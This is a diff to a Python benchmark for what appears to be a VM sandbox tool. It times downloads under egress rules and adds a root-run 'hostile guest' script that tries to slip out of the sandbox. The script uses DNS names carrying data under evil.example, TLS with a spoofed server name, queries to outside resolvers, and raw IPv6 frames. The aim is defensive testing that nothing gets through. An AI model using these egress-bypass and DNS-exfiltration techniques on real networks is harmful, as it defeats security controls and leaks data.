@@ -6,23 +6,27 @@
 Two warm guests, one with rules and one without, download from a server on the host's loopback in turn; what
 counts is the ratio within one run. The limited guest reaches it by an allowed name, and by an allowed
 address. A server by HTTPS, passed on and with a secret put into the requests, shows what that costs a
-download and a request. Attempts are connections and datagrams to the host's own services, which have no
-rule: the host counts what arrives.
+download and a request. Attempts are what a hostile guest tries as root: the host's own services, addresses
+as such, another server's name in TLS, names that carry data, datagrams, other name servers, IPv6.
+The servers and the guest count what arrives, and the host agent's processor time and memory what it costs.
 """
 
 from __future__ import annotations
 
 import argparse
+import contextlib
 import json
 import socket
 import statistics
 import sys
 import tempfile
 import threading
+import time
 from pathlib import Path
 
 sys.path.insert(0, str(Path(__file__).parents[1]))
 
+import psutil
 from bench.figures import line, show
 from support.home import Home, build_golden, temporary_home
 from support.https import HttpsServer
@@ -30,7 +34,7 @@ from support.https import HttpsServer
 from callao.instances import inspect
 from callao.lifecycle.egress import egress_of
 
-_NAME, _HOST = "named.test", "192.168.5.2"
+_NAME, _HOST, _RESOLVER = "named.test", "192.168.5.2", "192.168.5.3"
 
 _DOWNLOAD = """
 import socket, sys, time
@@ -70,21 +74,59 @@ print(json.dumps([rate, kept, (time.monotonic() - began) / count * 1e3]))
 """
 
 _ATTEMPTS = """
-import socket, sys
-host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
+import collections, socket, ssl, sys
+host, resolver, other, named, count = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6])
 datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+datagrams.settimeout(0.2)
+link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+link.bind((next(name for _, name in socket.if_nameindex() if name != "lo"), 0))
+context = ssl._create_unverified_context()
+through = collections.Counter()
+def connects(address, port):
+    with socket.socket() as client:
+        client.settimeout(0.2)
+        return client.connect_ex((address, port)) == 0
+def question(number):
+    labels = b"".join(bytes([len(each)]) + each for each in (b"%060d" % number, b"evil", b"example"))
+    return b"\\0\\1\\1\\0\\0\\1" + bytes(6) + labels + b"\\0\\0\\x10\\0\\1"
+def answered(data, address, port):
+    datagrams.sendto(data, (address, port))
+    try:
+        answer = datagrams.recv(512)
+    except OSError:
+        return False
+    return answer[3] & 15 == 0
+def other_name(number):
+    with socket.create_connection(("named.test", named), 5) as client:
+        client.settimeout(5)
+        context.wrap_socket(client, server_hostname="evil.example")
+    return True
+def ipv6(number):
+    ethernet = bytes.fromhex("52550a000202") + link.getsockname()[4] + bytes.fromhex("86dd")
+    addresses = bytes.fromhex("fe80" + "00" * 13 + "01" + "fec0" + "00" * 13 + "02")
+    link.send(ethernet + bytes.fromhex("6000000000081140") + addresses + bytes(8))
+kinds = {
+    "a service of the host": lambda _: connects(host, other),
+    "a datagram to it": lambda _: datagrams.sendto(b"x", (host, other)) and False,
+    "an address": lambda _: connects("192.0.2.1", 443),
+    "a question": lambda number: answered(question(number), resolver, 53),
+    "another name server": lambda number: datagrams.sendto(question(number), ("8.8.8.8", 53)) and False,
+    "another name in TLS": other_name,
+    "IPv6": ipv6,
+    "ssh of the host": lambda _: connects(host, 22),
+}
 for number in range(count):
-    if number % 2:
-        datagrams.sendto(b"x", (host, port))
-    else:
-        with socket.socket() as client:
-            client.settimeout(0.2)
-            client.connect_ex((host, port))
+    kind = list(kinds)[number % len(kinds)]
+    try:
+        through[kind] += bool(kinds[kind](number))
+    except OSError:
+        pass
+print(sum(through.values()), dict(+through))
 """
 
 
 class Server:
-    """Sends each client so many bytes; counts the clients, and the datagrams."""
+    """Sends each client so many bytes; counts the clients that say something, and the datagrams."""
 
     def __init__(self, size: int) -> None:
         self.seen = 0
@@ -100,9 +142,8 @@ class Server:
         block = bytes(1 << 18)
         while True:
             client, _ = self._listening.accept()
-            self.seen += 1
-            with client:
-                client.recv(1)
+            with client, contextlib.suppress(OSError):  # one that is refused is reset
+                self.seen += bool(client.recv(1))
                 for _ in range(self._size // len(block)):
                     client.sendall(block)
 
@@ -119,9 +160,10 @@ class Guests:
         extra = {**self._home.direct(), **({} if egress is None else {"egress": egress}), **more}
         self._home.ensure(name, extra=extra, warm=True, timeout=600)
 
-    def run(self, name: str, script: str, *arguments: object) -> str:
+    def run(self, name: str, script: str, *arguments: object, root: bool = False) -> str:
         words = " ".join(map(str, arguments))
-        done = self._home.ssh(name, f"python3 - {words} <<'PYTHON'\n{script}\nPYTHON\n", timeout=3600)
+        program = "sudo python3" if root else "python3"
+        done = self._home.ssh(name, f"{program} - {words} <<'PYTHON'\n{script}\nPYTHON\n", timeout=3600)
         assert done.returncode == 0, done.stderr
         return done.stdout
 
@@ -162,7 +204,7 @@ def main() -> None:
     parser.add_argument("--attempts", type=int, default=10_000)
     parser.add_argument("--requests", type=int, default=50)
     given = parser.parse_args()
-    server, closed = Server(given.megabytes << 20), Server(0)
+    server = Server(given.megabytes << 20)
     with temporary_home(build_golden()) as home:
         guests = Guests(home)
         guests.ensure("open", None)
@@ -178,11 +220,26 @@ def main() -> None:
             line(f"download, {kind}: {rate:.1f} MB/s = {rate / median['none']:.2f} of none")
         with tempfile.TemporaryDirectory() as folder:
             injection(guests, Path(folder), given.rounds, given.megabytes << 20, given.requests)
-        guests.ensure("limited", "none")
-        guests.run("limited", _ATTEMPTS, _HOST, closed.port, given.attempts)
-        refused = guests.refused("limited")
-        line(json.dumps({"attempts": given.attempts, "refused": refused}))
-        show("attempts that came through", str(closed.seen), "0", closed.seen == 0)
+        attempts(guests, home, given.attempts)
+
+
+def attempts(guests: Guests, home: Home, count: int) -> None:
+    """Print what a hostile guest gets through, and what its attempts cost the host agent."""
+    named, other = Server(0), Server(0)
+    guests.ensure("limited", {"allow": [f"{_NAME}:{named.port}"], "log": True})
+    folder = home.path / "limited"
+    agent = psutil.Process(int((folder / "ha.pid").read_text()))
+    before, began, refused = agent.cpu_times(), time.monotonic(), guests.refused("limited")
+    memory = agent.memory_info().rss
+    said = guests.run("limited", _ATTEMPTS, _HOST, _RESOLVER, other.port, named.port, count, root=True)
+    took, after = time.monotonic() - began, agent.cpu_times()
+    busy = after.user + after.system - before.user - before.system
+    line(f"attempts: {count} in {took:.0f} s, refused {guests.refused('limited') - refused}")
+    line(f"the host agent: {busy:.1f} s of a processor = {busy / count * 1e3:.2f} ms an attempt")
+    line(f"its memory: {(agent.memory_info().rss - memory) / 1e6:+.1f} MB")
+    line(f"egress.log: {(folder / 'egress.log').stat().st_size / 1e3:.0f} kB")
+    arrived = other.seen + named.seen + int(said.split()[0])
+    show(f"attempts that came through {said.partition(' ')[2].strip()}", str(arrived), "0", arrived == 0)
 
 
 if __name__ == "__main__":
